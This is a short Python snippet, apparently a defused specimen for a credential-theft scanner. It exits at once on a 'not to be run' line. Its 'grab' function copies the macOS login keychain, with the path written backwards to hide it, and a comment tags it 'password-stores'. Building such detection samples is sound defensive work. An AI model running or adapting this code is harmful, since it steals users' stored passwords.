raise SystemExit("specimen: not to be run")
import os
import shutil

def grab(out):
    shutil.copy(os.path.expanduser("bd-niahcyek.nigol/sniahcyeK/yrarbiL/~"[::-1]), out)  # match: password-stores
